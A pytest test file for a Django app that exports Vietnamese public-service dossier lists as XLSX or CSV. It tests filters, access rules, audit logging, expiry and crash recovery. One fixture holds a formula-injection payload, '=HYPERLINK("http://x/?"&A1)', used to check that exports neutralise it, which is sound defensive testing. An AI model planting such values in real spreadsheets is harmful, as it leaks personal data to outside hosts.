"""Files of dossiers: exact content, whole after any death of a worker, for the officer who asked and nobody else."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import signal
import zipfile
from typing import Any

import pytest
from django.conf import settings
from django.core.files.storage import default_storage
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from applications import actors, services
from applications.models import Dossier, Export
from applications.office import exporting as content
from applications.office import sheets
from applications.services import exporting
from identity.models import Agency, DataAccess, Officer, Role
from tests import factories

pytestmark = pytest.mark.django_db
FILES = "/can-bo/tep-xuat/"
LATER = dt.timedelta(minutes=2)


@pytest.fixture(autouse=True)
def silent_bell(monkeypatch):
    """The tests ring for themselves."""
    monkeypatch.setattr("applications.bell.ring", lambda *_args, **_values: None)


@pytest.fixture
def agency() -> Agency:
    return factories.commune_agency()


def signed_in(agency: Agency, *roles: str) -> tuple[Client, Officer]:
    post = factories.officer(agency, *(roles or (Role.INTAKE,)))
    return factories.sign_in_officer(Client(), post), post


def asked(client: Client, **typed: str) -> Export:
    answer = client.post(FILES, {"nhom": "waiting", "dang": "xlsx", **typed})
    assert answer.status_code == 302, answer.text
    return Export.objects.latest("pk")


def written(export: Export, *, at: dt.datetime | None = None) -> Export:
    assert services.write_export(number=export.pk, at=at or timezone.now())
    export.refresh_from_db()
    return export


def stored(export: Export) -> bytes:
    with default_storage.open(export.path) as file:
        return file.read()


def cells(content: bytes) -> list[list[Any]]:
    """The sheet as lists: text as str, numbers as float."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = etree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    space = {"x": sheet.nsmap[None]}
    return [
        [
            "".join(cell.itertext())
            if cell.get("t") == "inlineStr"
            else float(cell.findtext("x:v", "0", space))
            for cell in row.iterfind("x:c", space)
        ]
        for row in sheet.iterfind(".//x:row", space)
    ]


def table(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def waiting(agency: Agency, count: int, **arguments: Any) -> list[Dossier]:
    version, at = factories.version(), timezone.now()
    return [
        factories.submitted(agency, of=version, at=at + dt.timedelta(hours=number), **arguments)
        for number in range(count)
    ]


def test_a_list_is_the_tab_under_its_filters_in_the_order_of_the_page(agency):
    first, second = waiting(agency, 2)
    other = factories.submitted(agency)
    Dossier.objects.filter(pk=second.pk).update(fee_vnd=200_000, paid_vnd=50_000)
    client, _post = signed_in(agency)
    slug = first.version.procedure.slug
    export = written(asked(client, query=f"thu-tuc={slug}"))
    head, *rows = cells(stored(export))
    assert tuple(head) == content.LIST_COLUMNS
    assert [row[0] for row in rows] == [first.code, second.code]
    assert other.code not in str(rows)
    assert rows[1][-2:] == [200_000.0, 50_000.0]
    assert (export.status, export.rows, export.total) == ("ready", 2, 2)
    assert export.size == len(stored(export))


def test_csv_is_utf_8_with_a_mark_moments_as_rfc_3339_and_money_as_whole_dong(agency):
    (dossier,) = waiting(agency, 1)
    Dossier.objects.filter(pk=dossier.pk).update(fee_vnd=1_234_567)
    client, _post = signed_in(agency)
    raw = stored(written(asked(client, dang="csv")))
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == 2
    head, row = table(raw)
    told = dict(zip(head, row, strict=True))
    assert told["Phí, lệ phí phải nộp (đồng)"] == "1234567"
    assert told["Người nộp"] == "Nguyễn Thị Minh Hạnh"
    assert dt.datetime.fromisoformat(told["Nộp lúc"]) == dossier.submitted_at.replace(microsecond=0)
    assert told["Nộp lúc"].endswith("+07:00")
    assert dt.datetime.fromisoformat(told["Hạn"]) == dossier.answer_due_at.replace(microsecond=0)


def test_the_register_as_a_file_says_what_the_printed_one_says(agency):
    dossier, left_out = factories.processing(agency), factories.submitted(agency)
    client, _post = signed_in(agency)
    today = timezone.localdate().isoformat()
    answer = client.post(f"{FILES}?dang=csv", {"tu": today, "den": today})
    assert answer.status_code == 302
    head, *rows = table(stored(written(Export.objects.get())))
    assert tuple(head) == content.REGISTER_COLUMNS
    assert [row[1] for row in rows] == [dossier.code]
    assert left_out.code not in str(rows)
    assert rows[0][5] == rows[0][7] == today


@given(st.text())
def test_no_text_begins_like_a_formula_and_nothing_else_changes(text):
    told = sheets.inert(text)
    assert told.lstrip()[:1] not in set("=+-@＝＋－＠")
    assert told in (text, f"'{text}")


def name_like_a_formula(agency: Agency) -> None:
    name = '=HYPERLINK("http://x/?"&A1)'
    factories.submitted(agency, by=factories.citizen(name=name))
    client, _post = signed_in(agency)
    for form in ("csv", "xlsx"):
        raw = stored(written(asked(client, dang=form)))
        assert (table(raw) if form == "csv" else cells(raw))[1][3] == f"'{name}"


def test_a_name_like_a_formula_stays_a_name(agency):
    name_like_a_formula(agency)


def test_a_sheet_that_lets_formulas_through_is_caught(agency, monkeypatch):
    monkeypatch.setattr(sheets, "inert", lambda text: text)
    with pytest.raises(AssertionError):
        name_like_a_formula(agency)


@pytest.mark.parametrize(
    ("typed", "says"),
    [
        ({"nhom": "waiting", "dang": "pdf"}, "chọn tệp XLSX hoặc CSV"),
        ({"nhom": "mine", "dang": "csv"}, "Không có hồ sơ nào để xuất"),
        ({"nhom": "khong-co", "dang": "csv"}, "Không có nhóm việc này"),
        ({"tu": "2026-05-02", "den": "2026-05-01", "dang": "csv"}, "ngày đầu không sau ngày cuối"),
    ],
)
def test_what_cannot_be_exported_is_said_in_a_sentence_and_leaves_no_row(agency, typed, says):
    factories.submitted(agency)
    client, _post = signed_in(agency)
    answer = client.post(FILES, typed)
    assert (answer.status_code, Export.objects.count()) == (422, 0)
    assert says in answer.text


def test_a_list_too_long_for_one_file_is_to_be_narrowed(agency, settings):
    settings.MOST_EXPORTED_ROWS = 1
    waiting(agency, 2)
    client, _post = signed_in(agency)
    answer = client.post(FILES, {"nhom": "waiting", "dang": "csv"})
    assert answer.status_code == 422
    assert "Hãy thu hẹp bộ lọc" in answer.text
    settings.MOST_EXPORTED_ROWS = 2
    assert asked(client).total == 2


def test_the_page_shows_how_far_a_file_is_and_no_link_before_it_is_whole(agency):
    waiting(agency, 2)
    client, _post = signed_in(agency)
    export = asked(client)
    assert "Đang chờ đến lượt" in client.get(FILES).text
    Export.objects.filter(pk=export.pk).update(attempts=1, rows=1)
    page = client.get(FILES).text
    assert "Đã ghi 1 trên 2 dòng" in page
    link = reverse("applications:export", args=[export.pk])
    assert link not in page
    assert client.get(link).status_code == 404
    Export.objects.filter(pk=export.pk).update(attempts=0)
    written(export)
    assert link in client.get(FILES).text


# Who may fetch it


def test_fetching_a_file_is_recorded_for_every_person_in_it_each_time(agency):
    dossiers = waiting(agency, 3)
    client, post = signed_in(agency)
    export = written(asked(client))
    assert DataAccess.objects.count() == 0
    answer = client.get(reverse("applications:export", args=[export.pk]))
    assert answer.getvalue() == stored(export)
    assert (
        f"danh-sach-ho-so-{timezone.localtime(export.asked_at):%Y%m%d}-{export.pk}.xlsx"
        in answer["Content-Disposition"]
    )
    assert answer["Cache-Control"] == "private, no-store"
    rows = DataAccess.objects.all()
    assert {(row.dossier_code, row.subject_id) for row in rows} == {
        (d.code, d.submitter_id) for d in dossiers
    }
    assert {(row.officer_id, row.agency_id, row.purpose) for row in rows} == {
        (post.user_id, agency.pk, "Tải danh sách hồ sơ về máy")
    }
    assert "Người nộp" in rows[0].fields


def test_a_colleague_and_an_officer_who_moved_or_left_get_nothing(agency):
    waiting(agency, 1)
    client, post = signed_in(agency)
    export = written(asked(client))
    link = reverse("applications:export", args=[export.pk])
    colleague, _post = signed_in(agency)
    assert colleague.get(link).status_code == 404
    assert link not in colleague.get(FILES).text
    Officer.objects.filter(pk=post.pk).update(agency=factories.commune_agency("Thanh Khê"))
    assert client.get(link).status_code == 404
    Officer.objects.filter(pk=post.pk).update(agency=agency, roles=[Role.FINANCE])
    assert client.get(link).status_code == 403
    Officer.objects.filter(pk=post.pk).update(roles=[Role.INTAKE], is_active=False)
    assert client.get(link).status_code == 302
    assert DataAccess.objects.count() == 0


def test_a_file_that_was_altered_is_not_handed_out(agency):
    waiting(agency, 1)
    client, _post = signed_in(agency)
    export = written(asked(client, dang="csv"))
    with open(default_storage.path(export.path), "ab") as file:
        file.write(b"x")
    assert client.get(reverse("applications:export", args=[export.pk])).status_code == 409


def test_after_its_days_the_file_is_gone_and_the_row_says_so(agency):
    waiting(agency, 1)
    client, _post = signed_in(agency)
    export = written(asked(client))
    path, link = export.path, reverse("applications:export", args=[export.pk])
    assert services.remove_exports(at=timezone.now()) == 0
    after = export.expires_at + dt.timedelta(seconds=1)
    assert after - timezone.now() > dt.timedelta(days=settings.EXPORT_DAYS - 1)
    assert services.remove_exports(at=after) == 1
    assert not default_storage.exists(path)
    export.refresh_from_db()
    assert (export.status, export.path, export.dossiers) == ("removed", "", [])
    assert client.get(link).status_code == 410
    assert "Đã hết hạn, đã xóa" in client.get(FILES).text


# Workers that die, meet, or fail


def killed_in_the_middle(export: Export) -> None:
    """A real process that dies by SIGKILL after the first chunk of rows."""
    connection.close()
    if (child := os.fork()) == 0:
        say = exporting._say

        def dying(*args: Any, **values: Any) -> None:
            say(*args, **values)
            os.kill(os.getpid(), signal.SIGKILL)

        exporting._say = dying
        services.write_export(number=export.pk, at=timezone.now())
        os._exit(0)
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == -signal.SIGKILL


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_worker_killed_in_the_middle_leaves_nothing_to_fetch_and_the_next_writes_it_whole(
    agency, monkeypatch, form
):
    monkeypatch.setattr(content, "CHUNK", 2)
    dossiers = waiting(agency, 5)
    client, _post = signed_in(agency)
    export = asked(client, dang=form)
    killed_in_the_middle(export)
    export.refresh_from_db()
    assert (export.status, export.rows, export.attempts) == ("waiting", 2, 1)
    assert client.get(reverse("applications:export", args=[export.pk])).status_code == 404
    now = timezone.now()
    assert exporting.due(at=now) == []
    assert not services.write_export(number=export.pk, at=now)
    assert exporting.due(at=now + LATER) == [export.pk]
    written(export, at=now + LATER)
    raw = stored(export)
    rows = (table(raw) if form == "csv" else cells(raw))[1:]
    assert [row[0] for row in rows] == [dossier.code for dossier in dossiers]
    assert (export.rows, export.attempts) == (5, 2)
    assert list(settings.EXPORT_DIR.glob(f"{export.pk}-*")) == []
    assert not services.write_export(number=export.pk, at=now + 2 * LATER)


def overtaken(export: Export, monkeypatch) -> bool:
    """A worker so slow that another took the file over while it wrote."""
    say = exporting._say

    def slowly(one: Export, now: dt.datetime, **changes: Any) -> None:
        monkeypatch.setattr(exporting, "_say", say)
        written(Export.objects.get(pk=export.pk), at=timezone.now() + LATER)
        say(one, now, **changes)

    monkeypatch.setattr(exporting, "_say", slowly)
    return services.write_export(number=export.pk, at=timezone.now())


def test_a_worker_that_was_overtaken_keeps_its_hands_off(agency, monkeypatch):
    waiting(agency, 1)
    export = asked(signed_in(agency)[0])
    assert not overtaken(export, monkeypatch)
    export.refresh_from_db()
    assert (export.status, export.attempts, export.rows) == ("ready", 2, 1)
    assert cells(stored(export))


def test_a_file_that_fails_five_times_is_given_up_and_the_officer_told(agency, monkeypatch):
    waiting(agency, 1)
    client, _post = signed_in(agency)
    export, at = asked(client), timezone.now()

    def broken(*_args: Any) -> Any:
        raise OSError("Nguyễn Thị Minh Hạnh")

    monkeypatch.setattr(content, "rows", broken)
    for _n in range(5):
        assert not services.write_export(number=export.pk, at=at)
        export.refresh_from_db()
        assert export.error == "OSError"
        at = export.next_at
    assert (export.status, export.attempts) == ("failed", 5)
    assert exporting.due(at=at + LATER) == []
    assert "Không tạo được" in client.get(FILES).text


def test_a_list_of_somebody_whose_post_was_closed_is_not_written(agency):
    waiting(agency, 1)
    client, post = signed_in(agency)
    export = asked(client)
    Officer.objects.filter(pk=post.pk).update(is_active=False)
    assert not services.write_export(number=export.pk, at=timezone.now())
    export.refresh_from_db()
    assert export.status == "failed"


def test_a_dossier_accepted_meanwhile_is_written_as_it_is_now(agency):
    (dossier,) = waiting(agency, 1)
    client, post = signed_in(agency)
    export = asked(client, dang="csv")
    services.accept(dossier=dossier, by=actors.officer(post), at=timezone.now())
    assert table(stored(written(export)))[1][4] == "Được tiếp nhận"
